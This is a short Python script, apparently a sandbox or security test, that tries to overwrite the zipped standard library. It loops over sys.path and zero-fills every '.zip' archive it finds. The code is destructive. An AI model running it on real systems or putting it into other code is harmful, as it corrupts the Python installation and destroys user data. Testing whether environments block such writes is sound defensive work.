# Tries to overwrite the archive of the standard library.
import sys
for path in sys.path:
    if path.endswith(".zip"):
        with open(path, "r+b") as archive:
            size = archive.seek(0, 2)
            archive.seek(0)
            archive.write(bytes(size))
